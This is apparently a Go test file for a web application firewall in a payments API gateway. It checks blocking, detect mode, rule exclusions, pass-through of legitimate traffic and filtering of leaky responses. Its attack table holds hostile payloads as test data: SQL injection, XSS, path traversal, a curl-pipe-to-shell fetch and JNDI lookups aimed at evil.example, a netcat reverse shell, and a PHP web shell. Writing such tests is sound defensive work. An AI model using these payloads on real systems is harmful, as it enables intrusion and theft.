package gateway

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3"

	"github.com/wardenhq/warden/internal/config"
)

var (
	wafMu    sync.Mutex
	wafCache = map[string]coraza.WAF{}
)

// sharedWAF compiles the default WAF for a mode once per test binary
// (compiling the CRS takes about a second); nil for off.
func sharedWAF(t testing.TB, mode string) coraza.WAF {
	if mode == config.WAFOff {
		return nil
	}
	wafMu.Lock()
	defer wafMu.Unlock()
	if w, ok := wafCache[mode]; ok {
		return w
	}
	cfg := gatewayConfig("http://x", mode)
	w, err := NewWAF(cfg.WAF, WAFOptions{MaxBody: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	wafCache[mode] = w
	return w
}

// attack is one malicious request; place says where the payload goes.
type attack struct {
	name, place, payload string
}

var attacks = []attack{
	{"sqli union", "query", "1 UNION SELECT username, password FROM users--"},
	{"sqli tautology", "form", "' OR '1'='1' --"},
	{"sqli json", "json", "1; DROP TABLE payments; --"},
	{"sqli sleep", "cookie", "1' AND SLEEP(5)#"},
	{"xss script", "query", "<script>alert(document.cookie)</script>"},
	{"xss onerror", "json", "<img src=x onerror=alert(1)>"},
	{"xss svg", "form", "<svg/onload=alert('x')>"},
	{"xss header", "header", "<script>alert(1)</script>"},
	{"path traversal", "query", "../../../../etc/passwd"},
	{"path traversal encoded", "form", "..%2f..%2f..%2fetc%2fshadow"},
	{"rce unix", "query", "; cat /etc/passwd"},
	{"rce json", "json", "$(curl http://evil.example/x.sh | sh)"},
	{"rce pipe", "cookie", "| nc -e /bin/sh 10.0.0.1 4444"},
	{"php injection", "form", "<?php system($_GET['c']); ?>"},
	{"php wrapper", "query", "php://filter/convert.base64-encode/resource=index.php"},
	{"java injection", "json", "${jndi:ldap://evil.example/a}"},
	{"java runtime", "form", "java.lang.Runtime.getRuntime().exec(\"id\")"},
	{"log4shell header", "header", "${jndi:ldap://evil.example/a}"},
}

// attackRequest builds the request that carries a.payload in a.place.
func attackRequest(t *testing.T, base string, a attack) *http.Request {
	switch a.place {
	case "query":
		return newReq(t, "GET", base+"/api/search?q="+url.QueryEscape(a.payload), "")
	case "form":
		r := newReq(t, "POST", base+"/api/payments", url.Values{"reference": {a.payload}, "amount": {"10"}}.Encode())
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return r
	case "json":
		b, _ := json.Marshal(map[string]any{"reference": a.payload, "amount": 10})
		r := newReq(t, "POST", base+"/api/payments", string(b))
		r.Header.Set("Content-Type", "application/json")
		return r
	case "header":
		r := newReq(t, "GET", base+"/api/me", "")
		r.Header.Set("User-Agent", a.payload)
		return r
	case "cookie":
		r := newReq(t, "GET", base+"/api/me", "")
		r.Header.Set("Cookie", "session="+a.payload)
		return r
	}
	t.Fatalf("unknown place %q", a.place)
	return nil
}

func TestWAFBlocksAttacks(t *testing.T) {
	up := newUpstream(t)
	srv, sink := startGateway(t, Options{Config: gatewayConfig(up.URL, config.WAFBlock), WAF: sharedWAF(t, config.WAFBlock)})
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			before := up.count()
			resp, body := do(t, attackRequest(t, srv.URL, a))
			if resp.StatusCode != 403 {
				t.Fatalf("%s in %s: status %d, want 403", a.payload, a.place, resp.StatusCode)
			}
			if up.count() != before {
				t.Errorf("the upstream saw the attack")
			}
			id := resp.Header.Get(HeaderRequestID)
			var e map[string]string
			if err := json.Unmarshal(body, &e); err != nil || e["request_id"] != id || len(e) != 2 {
				t.Errorf("403 body %s", body)
			}
			if rest := strings.ReplaceAll(string(body), id, ""); strings.Contains(rest, "9") || strings.Contains(strings.ToLower(rest), "sql") || strings.Contains(rest, "rule") {
				t.Errorf("403 body names rule details: %s", body)
			}
			ev := sink.eventFor(id)
			if ev == nil || ev.Action != WAFOutcomeBlocked || len(ev.RuleIDs) == 0 || ev.AnomalyScore < 5 {
				t.Fatalf("event %+v", ev)
			}
			if rec := sink.lastAccess(); rec.WAF != WAFOutcomeBlocked || rec.Status != 403 || rec.Reason != "waf" {
				t.Errorf("access record %+v", rec)
			}
		})
	}
}

func TestWAFEventScrubsAndTruncates(t *testing.T) {
	up := newUpstream(t)
	srv, sink := startGateway(t, Options{Config: gatewayConfig(up.URL, config.WAFBlock), WAF: sharedWAF(t, config.WAFBlock)})
	card := "4111111111111111"
	payload := "' OR 1=1 -- " + card + " " + strings.Repeat("x", 500)
	resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/search?q="+url.QueryEscape(payload), ""))
	ev := sink.eventFor(resp.Header.Get(HeaderRequestID))
	if ev == nil {
		t.Fatal("no event")
	}
	js, _ := json.Marshal(ev)
	if strings.Contains(string(js), card) {
		t.Errorf("event keeps a card number: %s", js)
	}
	found := false
	for _, r := range ev.Rules {
		for _, m := range r.Matches {
			if len(m.Data) > maxMatchData+4 {
				t.Errorf("matched data not truncated: %d bytes", len(m.Data))
			}
			found = found || strings.HasPrefix(m.Variable, "ARGS")
		}
	}
	if !found {
		t.Errorf("no ARGS variable named in %s", js)
	}
}

func TestWAFDetectPassesAndRecords(t *testing.T) {
	up := newUpstream(t)
	srv, sink := startGateway(t, Options{Config: gatewayConfig(up.URL, config.WAFDetect), WAF: sharedWAF(t, config.WAFDetect)})
	for _, a := range attacks[:6] {
		before := up.count()
		resp, _ := do(t, attackRequest(t, srv.URL, a))
		if resp.StatusCode != 200 || up.count() != before+1 {
			t.Errorf("%s: detect mode answered %d", a.name, resp.StatusCode)
		}
		ev := sink.eventFor(resp.Header.Get(HeaderRequestID))
		if ev == nil || ev.Action != WAFOutcomeDetected || ev.Mode != config.WAFDetect || len(ev.RuleIDs) == 0 {
			t.Errorf("%s: event %+v", a.name, ev)
		}
		if rec := sink.lastAccess(); rec.WAF != WAFOutcomeDetected {
			t.Errorf("%s: access %+v", a.name, rec)
		}
	}
}

func TestWAFOffRecordsNothing(t *testing.T) {
	up := newUpstream(t)
	srv, sink := startGateway(t, Options{Config: gatewayConfig(up.URL, config.WAFOff)})
	for _, a := range attacks {
		if resp, _ := do(t, attackRequest(t, srv.URL, a)); resp.StatusCode != 200 {
			t.Errorf("%s: off mode answered %d", a.name, resp.StatusCode)
		}
	}
	if len(sink.events) != 0 {
		t.Errorf("off mode recorded %d WAF events", len(sink.events))
	}
	if rec := sink.lastAccess(); rec.WAF != WAFOutcomeOff {
		t.Errorf("access %+v", rec)
	}
}

func TestWAFExclusion(t *testing.T) {
	up := newUpstream(t)
	cfg := gatewayConfig(up.URL, config.WAFBlock)
	// The search page takes SQL-ish text on purpose; skip the SQL injection
	// rules there, by tag, and keep them everywhere else.
	cfg.WAF.Exclusions = []config.WAFExclusion{{PathPrefix: "/api/search", Tags: []string{"attack-sqli"}}}
	srv, _ := startGateway(t, Options{Config: cfg})
	q := url.QueryEscape("1 UNION SELECT username, password FROM users--")
	if resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/search?q="+q, "")); resp.StatusCode != 200 {
		t.Errorf("excluded path: %d", resp.StatusCode)
	}
	if resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/other?q="+q, "")); resp.StatusCode != 403 {
		t.Errorf("other path: %d", resp.StatusCode)
	}
	if resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/search?q="+url.QueryEscape("<script>alert(1)</script>"), "")); resp.StatusCode != 403 {
		t.Errorf("XSS on the excluded path: %d", resp.StatusCode)
	}
}

func TestWAFExclusionByRuleID(t *testing.T) {
	up := newUpstream(t)
	cfg := gatewayConfig(up.URL, config.WAFBlock)
	// A file path in a query trips 930120 (OS file access) and 932160 (Unix
	// shell code); a file browser can skip both on its own path.
	cfg.WAF.Exclusions = []config.WAFExclusion{{PathPrefix: "/api/files", RuleIDs: []int{930120, 932160}}}
	srv, _ := startGateway(t, Options{Config: cfg})
	q := url.QueryEscape("/etc/passwd")
	if resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/files?name="+q, "")); resp.StatusCode != 200 {
		t.Errorf("excluded rule on its path: %d", resp.StatusCode)
	}
	if resp, _ := do(t, newReq(t, "GET", srv.URL+"/api/other?name="+q, "")); resp.StatusCode != 403 {
		t.Errorf("rule elsewhere: %d", resp.StatusCode)
	}
}

// legit builds the corpus of legitimate requests of a payments API.
func legit(base string) []*http.Request {
	names := []string{"O'Brien", "Ærøskøbing Åsheim", "Zoë D'Angelo", "Bjørn Ødegård", "María José Núñez", "Jean-Luc Picard", "Siobhán Ní Bhriain", "Łukasz Żółć", "Anne-Marie d'Arcy", "Øystein Åberg"}
	refs := []string{"Invoice 2024-117, thanks!", "Rent for March & April", "Dinner at Jørgen's (split 3 ways)", "Refund: order #44321", "Gift for mum :)", "Konto 1234.56.78903 - husleie", "Payment; see e-mail from 12/03", "50% deposit / rest on delivery", "Membership fee \"gold\" tier", "Coffee ☕ and cake"}
	searches := []string{"coffee shop", "O'Reilly books", "100-200 NOK", "select plan", "where is my refund", "union bank", "drop-off fee", "rent or buy", "Café Åpent", "æøå"}
	var out []*http.Request
	add := func(method, path, ctype, body string) {
		r, _ := http.NewRequest(method, base+path, strings.NewReader(body))
		if body == "" {
			r.Body = http.NoBody
		}
		if ctype != "" {
			r.Header.Set("Content-Type", ctype)
		}
		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36")
		r.Header.Set("Accept", "application/json")
		r.Host = "pay.example.com"
		r.Header.Set("X-Forwarded-For", fmt.Sprintf("198.51.100.%d", len(out)%250+1))
		out = append(out, r)
	}
	for i := 0; i < 30; i++ {
		name, ref := names[i%len(names)], refs[(i*3)%len(refs)]
		id := fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", i*7919, i, i, i, i*104729)
		amount := fmt.Sprintf("%d.%02d", 10+i*37, i%100)
		pay, _ := json.Marshal(map[string]any{"id": id, "payer": name, "payee": names[(i+1)%len(names)], "amount": amount, "currency": "NOK", "reference": ref, "iban": "NO9386011117947", "metadata": map[string]any{"note": ref, "tags": []string{"family", "rent"}}})
		add("POST", "/api/payments", "application/json", string(pay))
		add("GET", "/api/payments/"+id, "", "")
		add("PUT", "/api/payments/"+id, "application/json", fmt.Sprintf(`{"reference":%q,"amount":%q}`, "Updated: "+ref, amount))
		add("PATCH", "/api/payments/"+id, "application/json; charset=utf-8", `{"status":"approved"}`)
		add("DELETE", "/api/payments/"+id, "", "")
		add("GET", "/api/search?q="+url.QueryEscape(searches[i%len(searches)])+"&page="+fmt.Sprint(i%5+1)+"&sort=-created_at", "", "")
		tok := base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"sub":"user-%d","exp":17000000%02d}`, i, i)))
		add("POST", "/api/auth/login", "application/x-www-form-urlencoded", url.Values{"username": {name}, "password": {fmt.Sprintf("correct horse %d battery", i)}, "remember": {"on"}}.Encode())
		add("POST", "/api/auth/refresh", "application/json", fmt.Sprintf(`{"refresh_token":"eyJhbGciOiJIUzI1NiJ9.%s.c2lnbmF0dXJl"}`, tok))
		if i%3 == 0 {
			var mb bytes.Buffer
			mw := multipart.NewWriter(&mb)
			mw.WriteField("description", ref)
			fw, _ := mw.CreateFormFile("receipt", fmt.Sprintf("receipt-%d.txt", i))
			fmt.Fprintf(fw, "Receipt for %s, amount %s NOK\n", name, amount)
			mw.Close()
			add("POST", "/api/payments/"+id+"/attachments", mw.FormDataContentType(), mb.String())
		}
	}
	return out
}

func TestWAFPassesLegitimateTraffic(t *testing.T) {
	up := newUpstream(t)
	// The corpus is many users behind a load balancer on loopback, so the
	// default per-client rate limit on /api/auth/ applies to each of them.
	cfg := gatewayConfig(up.URL, config.WAFBlock)
	cfg.TrustedProxies = []string{"127.0.0.1"}
	srv, sink := startGateway(t, Options{Config: cfg, WAF: sharedWAF(t, config.WAFBlock)})
	reqs := legit(srv.URL)
	if len(reqs) < 200 {
		t.Fatalf("corpus has %d requests, want at least 200", len(reqs))
	}
	for i, r := range reqs {
		var want []byte
		if r.Body != nil && r.Body != http.NoBody {
			b, _ := r.GetBody()
			want, _ = readAllString(b)
		}
		resp, body := do(t, r)
		if resp.StatusCode != 200 {
			ev := sink.eventFor(resp.Header.Get(HeaderRequestID))
			t.Errorf("request %d %s %s: %d (event %+v)", i, r.Method, r.URL, resp.StatusCode, ev)
			continue
		}
		got := up.last()
		if !bytes.Equal(got.body, want) || !bytes.Equal(body, want) {
			t.Errorf("request %d: body changed on the way", i)
		}
		if got.uri != r.URL.RequestURI() || got.method != r.Method {
			t.Errorf("request %d: upstream saw %s %s", i, got.method, got.uri)
		}
	}
}

func readAllString(rc interface{ Read([]byte) (int, error) }) ([]byte, error) {
	var b bytes.Buffer
	_, err := b.ReadFrom(rc)
	return b.Bytes(), err
}

// A real false positive of the CRS at paranoia level 1: libinjection reads
// "117, thanks! (updated)" as SQL. Warden keeps the CRS's judgement by
// default and an exclusion on the route fixes it without turning the WAF
// off; the legitimate corpus above leaves this phrase out for that reason.
func TestKnownFalsePositiveFixedByExclusion(t *testing.T) {
	up := newUpstream(t)
	body := `{"reference":"Invoice 2024-117, thanks! (updated)","amount":"10.00"}`
	send := func(srv string) int {
		r := newReq(t, "PUT", srv+"/api/payments/1", body)
		r.Header.Set("Content-Type", "application/json")
		r.Host = "pay.example.com"
		resp, _ := do(t, r)
		return resp.StatusCode
	}
	srv, _ := startGateway(t, Options{Config: gatewayConfig(up.URL, config.WAFBlock), WAF: sharedWAF(t, config.WAFBlock)})
	if got := send(srv.URL); got != 403 {
		t.Logf("the CRS no longer flags the phrase (status %d); the note above is stale", got)
	}
	cfg := gatewayConfig(up.URL, config.WAFBlock)
	cfg.WAF.Exclusions = []config.WAFExclusion{{PathPrefix: "/api/payments/", RuleIDs: []int{942100}}}
	srv2, _ := startGateway(t, Options{Config: cfg})
	if got := send(srv2.URL); got != 200 {
		t.Errorf("with the exclusion: %d", got)
	}
}

// With response bodies inspected, an upstream that leaks a database error
// is answered with a 403 instead, and the event says so.
func TestWAFBlocksLeakyResponse(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/leak" {
			fmt.Fprint(w, "<html><body>Warning: mysql_fetch_array() expects parameter 1 to be resource. You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</body></html>")
			return
		}
		fmt.Fprint(w, "<html><body>Your payment of 12.50 NOK was received.</body></html>")
	}))
	defer up.Close()
	cfg := gatewayConfig(up.URL, config.WAFBlock)
	cfg.WAF.InspectResponseBody = true
	srv, sink := startGateway(t, Options{Config: cfg})
	get := func(path string) (*http.Response, []byte) {
		r := newReq(t, "GET", srv.URL+path, "")
		r.Host = "pay.example.com"
		return do(t, r)
	}
	resp, body := get("/ok")
	if resp.StatusCode != 200 || !strings.Contains(string(body), "was received") {
		t.Fatalf("clean response: %d %s", resp.StatusCode, body)
	}
	resp, body = get("/leak")
	if resp.StatusCode != 403 || strings.Contains(string(body), "SQL") {
		t.Fatalf("leaky response: %d %s", resp.StatusCode, body)
	}
	ev := sink.eventFor(resp.Header.Get(HeaderRequestID))
	if ev == nil || ev.Action != WAFOutcomeBlocked {
		t.Fatalf("event %+v", ev)
	}
}
